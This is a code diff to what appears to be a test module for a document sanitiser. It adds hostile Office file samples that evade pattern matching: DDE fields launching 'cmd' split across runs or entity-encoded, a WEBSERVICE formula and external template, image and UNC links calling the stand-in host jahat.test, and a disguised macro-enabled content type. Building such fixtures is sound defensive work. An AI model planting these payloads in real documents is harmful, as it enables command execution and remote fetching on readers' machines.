@@ -131,6 +131,73 @@ def programs() -> Iterator[Hostile]:
     yield Hostile("kirim.pdf", pdf("Rapat.", root=send), None, (b"jahat.test",))
 
 
+RELATIONS = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b"%s</Relationships>"
+)
+KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+BODY = b'<w:document xmlns:w="w" xmlns:v="v"><w:body><w:p>%s</w:p></w:body></w:document>'
+RUN = b"<w:r><w:instrText>%s</w:instrText></w:r>"
+BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+SEPARATE = b"<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>hasil</w:t></w:r>"
+END = b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+def _fields(*pieces: bytes) -> bytes:
+    return repacked(word(), {"word/document.xml": BODY % b"".join(pieces)})
+
+
+def _related(relation: bytes) -> bytes:
+    return repacked(word(), {"word/_rels/settings.xml.rels": RELATIONS % relation})
+
+
+def spellings() -> Iterator[Hostile]:
+    """What runs or fetches, in spellings of XML that a pattern does not expect."""
+    no = Refusal.PROGRAM
+    gone = (b"jahat.test", b"jah&#97;t")
+    yield Hostile("dde terbelah.docx", _fields(BEGIN, RUN % b"DD", RUN % b"EAUTO cmd", END), no)
+    yield Hostile("dde tersandi.docx", _fields(BEGIN, RUN % b"DD&#69;AUTO cmd", END), no)
+    yield Hostile("dde tanpa batas.docx", _fields(RUN % b"D<![CDATA[D]]>E ", RUN % b"cmd"), no)
+    simple = b"<w:fldSimple w:instr = ' \"DD&#x45;\" cmd'/>"
+    yield Hostile("dde sederhana.docx", _fields(simple), no)
+    nested = (BEGIN, BEGIN, RUN % b"QUOTE 68 68 69", SEPARATE, END, RUN % b" cmd", END)
+    yield Hostile("dde tersusun.docx", _fields(*nested), no)
+    half = (BEGIN, RUN % b" D", BEGIN, RUN % b"QUOTE 68 69", SEPARATE, END, RUN % b" cmd", END)
+    yield Hostile("dde setengah.docx", _fields(*half), no)
+    link = b"<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd'></x:ddeLink></x:externalLink>"
+    yield Hostile("dde.xlsx", repacked(sheet(), {"xl/externalLinks/externalLink1.xml": link}), no)
+    fetch = '=WEBSERVICE("http://jahat.test/")'
+    yield Hostile("panggil.xlsx", sheet(lambda book: book.active.append([fetch])), no)
+    macro = part(word(), "[Content_Types].xml").replace(
+        b"wordprocessingml.document.main", b"ms-word.document.macro&#69;nabled.main"
+    )
+    yield Hostile("tipe tersandi.docx", repacked(word(), {"[Content_Types].xml": macro}), no)
+    for name, instruction in (
+        ("gambar jauh", b'INCLUDEPICTURE "http://jahat.test/a.png" \\d'),
+        ("teks jauh", b"includetext http://jahat.test/"),
+        ("tautan jauh", b"LINK Excel.Sheet.12 \\\\jahat.test\\a.xlsx"),
+    ):
+        first, last = instruction[:4], instruction[4:]
+        pieces = (BEGIN, RUN % first, RUN % last, SEPARATE, END)
+        yield Hostile(f"{name}.docx", _fields(*pieces), None, gone)
+    source = b"<w:pict><v:imagedata src='http://jahat.test/a.png'/></w:pict>"
+    yield Hostile("gambar vml.docx", _fields(source), None, gone)
+    for name, relation in (
+        ("kutip", b"<Relationship Id='r9' Type='%sattachedTemplate' Target='%s' %s/>"),
+        ("spasi", b'<Relationship Id = "r9" Type = "%soleObject" Target = "%s" %s/>'),
+        ("lebih", b'<Relationship Id="r>9" Type="%simage" Target="%s" %s/>'),
+        ("awalan", b'<p:Relationship xmlns:p="p" Id="r9" Type="%simage" Target="%s" %s/>'),
+    ):
+        for mode in (b"TargetMode='External'", b'TargetMode="Ext&#101;rnal"', b""):
+            filled = relation % (KIND, b"http://jahat.test/t.dotm", mode)
+            yield Hostile(f"relasi {name} {len(mode)}.docx", _related(filled), None, gone)
+    coded = b'<Relationship Id="r9" Type="%sf&#114;ame" Target="http://jah&#97;t.test/" %s/>'
+    mode = b'TargetMode="External"'
+    yield Hostile("relasi tersandi.docx", _related(coded % (KIND, mode)), None, gone)
+    share = b'<Relationship Id="r9" Type="%simage" Target="\\\\jahat.test\\a.png"/>' % KIND
+    yield Hostile("relasi bersama.docx", _related(share), None, gone)
+
+
 def disguises() -> Iterator[Hostile]:
     """What is something else than its name, or two things at once."""
     kind = Refusal.TYPE
@@ -223,4 +290,4 @@ def locked_pdf() -> bytes:
 
 def everything() -> list[Hostile]:
     """All of them."""
-    return [*programs(), *disguises(), *bombs(), *broken()]
+    return [*programs(), *spellings(), *disguises(), *bombs(), *broken()]
